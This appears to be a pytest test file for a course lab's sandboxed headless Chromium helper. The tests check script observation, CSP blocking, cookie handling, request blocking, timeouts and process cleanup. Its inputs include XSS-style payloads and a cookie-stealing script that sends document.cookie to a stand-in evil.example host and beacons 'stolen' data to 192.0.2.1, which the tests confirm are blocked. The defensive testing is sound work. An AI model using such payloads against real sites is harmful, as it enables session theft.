"""The browser: what a page's scripts do is seen, nothing else is reached, nothing stays behind."""

from __future__ import annotations

import asyncio
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from helpers import lab
from helpers.course import TOP
from helpers.lab.browser import chromium
from tests.lab_bench import DEADLINE, hello, nothing_left, trust, wait_until

__all__ = ["nothing_left", "trust"]


def html(markup: str, **headers: str) -> Any:
    """An app that serves a page, and writes down what cookies came."""

    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        app.cookies.append(environ.get("HTTP_COOKIE", ""))  # type: ignore[attr-defined]
        app.authorization.append(environ.get("HTTP_AUTHORIZATION", ""))  # type: ignore[attr-defined]
        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8"), *headers.items()])
        return [markup.encode()]

    app.cookies, app.authorization = [], []  # type: ignore[attr-defined]
    return app


def test_a_script_that_runs_is_seen(chrome: lab.browser.Browser) -> None:
    visit = chrome.visit(
        "<title>Zoë</title><p id=a>hello</p><script>alert(1); alert('zwei 田');"
        "console.log('said', 3); confirm('sure'); document.querySelector('#a').textContent = 'bye';"
        "setTimeout(() => { throw new Error('late') }, 0)</script>"
    )
    assert visit.alerts == ["1", "zwei 田", "sure"]
    assert visit.console == ["said 3"]
    assert visit.errors == ["late"]
    assert (visit.title, visit.text, visit.status) == ("Zoë", "bye", 200)
    assert '<p id="a">bye</p>' in visit.html
    assert visit.csp_violations == [] and visit.screenshot == b""
    assert repr(visit) == "<Visit 200 'Zoë', alerts ['1', 'zwei 田', 'sure']>"


def test_a_policy_stops_it_and_says_so(chrome: lab.browser.Browser) -> None:
    markup = (
        "<script>alert(1)</script><img src=x onerror=alert(2)><a href='javascript:alert(3)'>x</a>"
    )
    assert chrome.visit(markup).alerts == ["1", "2"]
    visit = chrome.visit(markup, csp="default-src 'self'", actions=[lambda page: page.click("a")])
    assert visit.alerts == []
    assert visit.csp_violations[:2] == ["script-src-elem inline", "script-src-attr inline"]
    only = chrome.visit(
        markup, headers={"Content-Security-Policy-Report-Only": "script-src 'none'"}
    )
    assert only.alerts == ["1", "2"]
    assert only.csp_violations[0] == "script-src-elem inline (report only)"


def test_a_nonce_lets_one_script_through(chrome: lab.browser.Browser) -> None:
    markup = "<script nonce=abc>alert('ours')</script><script>alert('theirs')</script>"
    assert chrome.visit(markup, csp="script-src 'nonce-abc'").alerts == ["ours"]


def test_cookies_and_httponly(chrome: lab.browser.Browser) -> None:
    markup = "<script>alert(document.cookie)</script>"
    visit = chrome.visit(markup, cookies={"session": "abc"})
    assert visit.alerts == ["session=abc"] and visit.cookies == {"session": "abc"}
    hidden = [{"name": "session", "value": "abc", "httpOnly": True}]
    visit = chrome.visit(markup, cookies=hidden)
    assert visit.alerts == [""] and visit.cookies == {"session": "abc"}
    assert chrome.visit(markup).cookies == {}


def test_a_served_page_is_asked_for_with_cookies_and_headers(chrome: lab.browser.Browser) -> None:
    app = html("<script>alert('real')</script>")
    with lab.serve(app) as server:
        visit = chrome.visit(
            server.url + "/notes?x=1", cookies={"s": "1"}, send={"Authorization": "Bearer t"}
        )
        assert visit.alerts == ["real"] and visit.url == server.url + "/notes?x=1"
        assert app.cookies[0] == "s=1" and app.authorization[0] == "Bearer t"
        assert visit.requests[0].url == visit.url and visit.requests[0].status == 200
        assert chrome.visit(server.url, csp="script-src 'none'").alerts == []
        assert chrome.visit(server.url + "#x", csp="script-src 'none'").alerts == []


def test_nothing_else_is_reached_but_the_attempt_is_seen(chrome: lab.browser.Browser) -> None:
    visit = chrome.visit(
        "<script>fetch('http://evil.example/?c=' + document.cookie).catch(() => 0);"
        "navigator.sendBeacon('http://192.0.2.1/b', 'stolen');</script>"
        "<img src='https://evil.example/pixel.png'><link rel=stylesheet href=//evil.example/x.css>",
        cookies={"session": "abc"},
        wait=1,
    )
    assert len(visit.asked("evil.example")) == 3
    assert [one.body for one in visit.asked("192.0.2.1")] == ["stolen"]
    theft = visit.asked("session=abc")[0]
    assert theft.blocked and theft.failure == "not loopback" and theft.status == 0
    assert str(theft) == "GET http://evil.example/?c=session=abc not loopback"


def test_without_scripts_the_requests_are_told_all_the_same(chrome: lab.browser.Browser) -> None:
    app = html("<img src=/picture><script>fetch('/by-script')</script>")
    with lab.serve(app) as server:
        visit = chrome.visit(server.url, scripts=False)
    assert [one.url.removeprefix(server.url) for one in visit.requests][:2] == ["/", "/picture"]
    assert not visit.asked("by-script")


def test_a_redirect_leads_nowhere_else(chrome: lab.browser.Browser) -> None:
    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        start_response("302 Found", [("Location", "http://192.0.2.1/away")])
        return [b""]

    with lab.serve(app) as server, pytest.raises(lab.LabError, match="cannot open"):
        chrome.visit(server.url)


def test_another_loopback_server_may_be_the_attackers(chrome: lab.browser.Browser) -> None:
    app = html("thanks")
    with lab.serve(app, cross_site=True) as attacker:
        visit = chrome.visit(
            f"<img src='{attacker.url}/?c=1'><script>fetch('{attacker.url}').catch(() => 0)</script>",
            wait=1,
        )
        asked = [one for one in visit.requests if attacker.url in one.url]
        assert [one.blocked for one in asked] == [False, False]
        assert len(app.cookies) >= 1


@pytest.mark.parametrize(
    "url", ["http://example.com/", "https://192.0.2.1", "http://localhost.evil/"]
)
def test_a_foreign_page_is_not_opened(url: str, chrome: lab.browser.Browser) -> None:
    with pytest.raises(lab.LabError, match="not on this machine"):
        chrome.visit(url)


def test_actions_waits_and_pictures(chrome: lab.browser.Browser) -> None:
    markup = (
        '<input id=q><button onclick="setTimeout(() => document.body.innerHTML +='
        " '<p class=done>' + 6 * 7 + '</p>', 50)\">go</button>"
    )
    visit = chrome.visit(
        markup,
        actions=[
            lambda page: page.fill("#q", "Siobhan O'Brien"),
            "document.querySelector('#q').value",
            lambda page: page.click("button"),
            lambda page: page.wait_for_selector(".done").inner_text(),
        ],
        screenshot=True,
    )
    assert visit.results == [None, "Siobhan O'Brien", None, "42"]
    assert visit.screenshot.startswith(b"\x89PNG")
    late = "<script>setTimeout(() => document.body.innerHTML = '<b class=late>x</b>', 300)</script>"
    assert chrome.visit(late, wait=".late").text == "x"


def test_what_goes_wrong_in_an_action_is_said(chrome: lab.browser.Browser) -> None:
    for action in ("nonsense(", lambda page: page.click("#nothing", timeout=300)):
        with pytest.raises(lab.LabError, match="An action on the page failed"):
            chrome.visit("x", actions=[action], seconds=3)
    with pytest.raises(ZeroDivisionError):
        chrome.visit("x", actions=[lambda page: 1 / 0])
    with pytest.raises(lab.Starved, match="Nothing on the page matched"):
        chrome.visit("x", wait=".never", seconds=3)
    assert chrome.visit("still here").text == "still here"


def test_without_scripts(chrome: lab.browser.Browser) -> None:
    visit = chrome.visit("<noscript>off</noscript><script>alert(1)</script>", scripts=False)
    assert visit.alerts == [] and visit.text == "off"


def test_certificates_are_looked_at(chrome: lab.browser.Browser, trust: lab.Trusted) -> None:
    with lab.serve(html("<script>alert(1)</script>"), tls=trust.identity) as server:
        with pytest.raises(lab.LabError, match="ERR_CERT_AUTHORITY_INVALID"):
            chrome.visit(server.url)
        assert chrome.visit(server.url, insecure=True).alerts == ["1"]


def test_a_server_that_is_gone(chrome: lab.browser.Browser) -> None:
    with lab.serve(hello) as server:
        pass
    with pytest.raises(lab.LabError, match="ERR_CONNECTION_REFUSED") as caught:
        chrome.visit(server.url)
    assert "Check that the server runs" in caught.value.remedy


@pytest.mark.parametrize(
    "markup",
    [
        "<script>for (;;);</script>",
        "<script>for (;;) alert(1);</script>",
        "<script>setTimeout(() => { for (;;); }, 1)</script>",
        "<script>setTimeout(() => { for (;;) prompt(1); }, 1)</script>",
    ],
)
def test_a_page_that_never_ends_is_given_up(
    markup: str, chrome: lab.browser.Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(lab.browser, "GRACE_SECONDS", 0.1)  # meanwhile it burns a whole processor
    began = time.monotonic()
    with pytest.raises(lab.LabError):
        chrome.visit(markup, seconds=0.3)
    assert time.monotonic() - began < 15
    assert chrome.visit("<script>alert('well')</script>").alerts == ["well"]


def test_a_server_that_never_answers_is_given_up(chrome: lab.browser.Browser) -> None:
    let_go = threading.Event()

    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
        let_go.wait(DEADLINE)
        return hello(environ, start_response)

    with lab.serve(app) as server:
        with pytest.raises(lab.Starved, match="did not load within 0.7 seconds"):
            chrome.visit(server.url, seconds=0.7)
        let_go.set()


def test_it_works_where_an_event_loop_runs(chrome: lab.browser.Browser) -> None:
    async def cell() -> list[str]:
        return chrome.visit("<script>alert(1)</script>").alerts

    assert asyncio.run(cell()) == ["1"]


def test_several_threads_may_ask(chrome: lab.browser.Browser) -> None:
    with ThreadPoolExecutor(4) as pool:
        visits = pool.map(chrome.visit, [f"<script>alert({n})</script>" for n in range(4)])
        assert [visit.alerts for visit in visits] == [[str(n)] for n in range(4)]


def test_it_starts_again_where_it_has_died_or_was_closed(chrome: lab.browser.Browser) -> None:
    """The one that all share; one of your own stays closed."""
    assert lab.browser.visit("one").text == "one"
    other = lab.browser._shared
    process = other._driver._process  # type: ignore[union-attr]
    assert process
    os.kill(process, getattr(signal, "SIGKILL", signal.SIGTERM))
    assert lab.browser.visit("two").text == "two"
    assert lab.browser._shared is other and chrome.visit("three").text == "three"
    for _ in range(2):
        lab.browser.close()
    assert not other.running  # type: ignore[union-attr]
    with pytest.raises(lab.LabError, match="closed"):
        other.visit("four")  # type: ignore[union-attr]
    assert lab.browser.visit("five").text == "five"
    lab.browser.close()


ALONE = """
import sys
from helpers import lab
print(lab.browser.visit("<script>alert(1)</script>").alerts, flush=True)
"""


def test_a_process_leaves_no_browser_behind(chrome: lab.browser.Browser) -> None:
    with lab.scratch_folder() as folder:
        environment = {**os.environ, "TMPDIR": str(folder), "TEMP": str(folder)}
        command = [sys.executable, "-W", "error", "-c", f"{ALONE}sys.exit(3)"]
        done = subprocess.run(
            command, capture_output=True, text=True, timeout=60, check=False, cwd=TOP,
            env=environment,
        )  # fmt: skip
        assert (done.returncode, done.stdout, done.stderr) == (3, "['1']\n", "")
        assert wait_until(lambda: not mentioning(str(folder)))
        assert [one.name for one in folder.iterdir()] == []


def test_a_killed_process_leaves_no_browser_behind(chrome: lab.browser.Browser) -> None:
    with lab.scratch_folder() as folder:
        environment = {**os.environ, "TMPDIR": str(folder), "TEMP": str(folder)}
        process = subprocess.Popen(
            [sys.executable, "-c", ALONE + "import time; time.sleep(60)"],
            stdout=subprocess.PIPE, env=environment, cwd=TOP,
        )  # fmt: skip
        with process:
            assert process.stdout and process.stdout.readline().strip() == b"['1']"
            assert mentioning(str(folder)) or not Path("/proc").exists()
            process.kill()
        assert wait_until(lambda: not mentioning(str(folder)))


def mentioning(text: str) -> list[str]:
    """Processes with this text in their command line (nothing where there is no /proc)."""
    found = []
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = entry.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if text in line and f"/{os.getpid()}/" not in str(entry):
            found.append(line)
    return found


def test_where_it_is_looked_for(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("CHROMIUM", str(tmp_path / "absent"))
    assert chromium.executable() is None and not lab.browser.available()
    with lab.browser.open() as browser, pytest.raises(lab.LabError, match="no Chromium") as caught:
        browser.visit("x")
    assert "CHROMIUM" in caught.value.remedy
    mine = tmp_path / ("mine.exe" if sys.platform == "win32" else "mine")
    shutil.copy(sys.executable, mine)
    monkeypatch.setenv("CHROMIUM", str(mine))
    assert chromium.executable() == str(mine)
    monkeypatch.delenv("CHROMIUM")
    monkeypatch.setenv("PATH", str(tmp_path))
    assert chromium.executable() is None or sys.platform in ("win32", "darwin")


def test_a_program_that_is_no_browser(monkeypatch: pytest.MonkeyPatch) -> None:
    if not lab.browser.available():
        pytest.skip("Playwright is not installed")
    monkeypatch.setenv("CHROMIUM", shutil.which("true") or sys.executable)
    with lab.browser.open() as browser, pytest.raises(lab.LabError, match="did not start"):
        browser.visit("x")


def test_without_playwright(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chromium.importlib.util, "find_spec", lambda name: None)
    assert not lab.browser.available()
    with lab.browser.open() as browser, pytest.raises(lab.LabError, match="Playwright"):
        browser.visit("x")
